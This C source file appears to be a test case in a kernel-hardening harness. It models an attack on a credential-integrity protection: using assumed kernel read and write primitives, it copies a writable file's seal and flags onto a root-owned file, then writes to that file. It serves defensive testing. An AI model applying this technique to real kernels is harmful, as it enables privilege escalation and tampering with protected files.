// SPDX-License-Identifier: GPL-2.0-only
#include "public_file.h"

ATTACK("cred_integrity", "swap_file_seal",
       "cred_integrity: an open file is not the one that was opened",
       "The program gives an open file the sealed record of another, which may be "
       "written.",
       "Who may do what is read from sealed records, and each record says whose it is.",
       "Root's file is changed by an ordinary write(2).");

static bool control(void)
{
	return is_ordinary();
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
	const long mine = call3(__NR_open, (long)"/tmp/mine", O_CREAT | O_RDWR, 0644);
	const uint64_t task = own_task(), seal = member("file.seal"), flags = member("file.flags");
	const uint64_t root_file = file_struct(task, (int)file);
	const uint64_t own_file = file_struct(task, (int)mine);

	poke(root_file + seal, peek(own_file + seal));
	poke32(root_file + flags, peek32(own_file + flags));
	call4(__NR_pwrite64, file, (long)"X", 1, 0);
	return is_changed(file);
}

static void victim(void)
{
	victim_waits();
}
